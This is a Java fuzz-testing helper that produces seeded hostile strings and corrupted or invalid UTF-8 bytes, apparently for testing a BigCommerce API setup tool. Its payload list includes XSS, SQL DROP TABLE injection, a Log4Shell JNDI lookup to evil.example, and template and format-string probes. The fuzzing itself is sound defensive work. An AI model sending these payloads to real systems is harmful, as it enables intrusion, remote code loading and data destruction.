package dev.bcsetup.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Hostile text from a seeded {@link Random}, so a failure names its seed and repeats: control characters, lone
 * surrogates, right-to-left marks, homoglyphs, huge runs, near-miss API paths and bytes that are not UTF-8.
 */
public final class HostileText {

    private static final String[] PIECES = {
        "https://api.bigcommerce.com/stores/", "abc123", "/v3/", "/v2/", "http://", "//", "\\", "@", "%2f", "%00", "..",
        "\u0000", "\r\n", "\t", "\u202e", "\u200b", "\ufeff", "\ud800", "\udfff", "\u0430", "\uff0f", "\u0131", "😀",
        "<script>alert(1)</script>", "'; DROP TABLE sessions; --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n",
        "<https://evil.example|x>", "API PATH:", "CLIENT ID:", "ACCESS TOKEN:", "\n", "=", "&", "+", "\"", "'", "`",
        "null", "[]", "{}", "-1", "9999999999999999999999", "ÿ", "\u0085", "\u2028"};
    private static final String ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789";

    private final Random random;

    public HostileText(long seed) {
        this.random = new Random(seed);
    }

    public Random random() {
        return random;
    }

    /** A string of hostile pieces, random code points and, now and then, a very long run. */
    public String next() {
        StringBuilder text = new StringBuilder();
        int parts = random.nextInt(12);
        for (int i = 0; i < parts; i++) {
            switch (random.nextInt(5)) {
                case 0, 1 -> text.append(PIECES[random.nextInt(PIECES.length)]);
                case 2 -> text.appendCodePoint(random.nextInt(0x3000));
                case 3 -> text.append(alnum(1 + random.nextInt(40)));
                default -> text.append(random.nextInt(20) == 0 ? "x".repeat(random.nextInt(70_000)) : alnum(5));
            }
        }
        return text.toString();
    }

    /** Lowercase letters and digits, the shape of a real client ID or token. */
    public String alnum(int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append(ALNUM.charAt(random.nextInt(ALNUM.length())));
        }
        return text.toString();
    }

    /** {@code valid} changed a little: a byte deleted, inserted, replaced, a range repeated or cut off. */
    public byte[] mutate(byte[] valid) {
        byte[] bytes = valid.clone();
        int edits = 1 + random.nextInt(4);
        for (int e = 0; e < edits && bytes.length > 0; e++) {
            int at = random.nextInt(bytes.length);
            switch (random.nextInt(6)) {
                case 0 -> bytes = concat(slice(bytes, 0, at), slice(bytes, at + 1, bytes.length));
                case 1 -> bytes = concat(slice(bytes, 0, at), new byte[] {(byte) random.nextInt(256)}, slice(bytes, at, bytes.length));
                case 2 -> bytes[at] = (byte) random.nextInt(256);
                case 3 -> bytes = slice(bytes, 0, at);
                case 4 -> {
                    int end = Math.min(bytes.length, at + 1 + random.nextInt(64));
                    bytes = concat(slice(bytes, 0, end), slice(bytes, at, end), slice(bytes, end, bytes.length));
                }
                default -> bytes = concat(slice(bytes, 0, at), next().getBytes(StandardCharsets.UTF_8), slice(bytes, at, bytes.length));
            }
        }
        return bytes;
    }

    /** Bytes that are not UTF-8: lone continuation bytes, overlong encodings, truncated sequences. */
    public byte[] invalidUtf8() {
        List<byte[]> bad = List.of(new byte[] {(byte) 0x80}, new byte[] {(byte) 0xc0, (byte) 0xaf},
                new byte[] {(byte) 0xe2, (byte) 0x82}, new byte[] {(byte) 0xff, (byte) 0xfe}, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80});
        byte[] out = new byte[0];
        for (int i = 0; i < 1 + random.nextInt(20); i++) {
            out = concat(out, random.nextBoolean() ? bad.get(random.nextInt(bad.size())) : alnum(3).getBytes(StandardCharsets.US_ASCII));
        }
        return out;
    }

    public <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static byte[] slice(byte[] bytes, int from, int to) {
        return java.util.Arrays.copyOfRange(bytes, Math.min(from, bytes.length), Math.min(Math.max(from, to), bytes.length));
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] part : parts) {
            length += part.length;
        }
        byte[] out = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, out, at, part.length);
            at += part.length;
        }
        return out;
    }
}
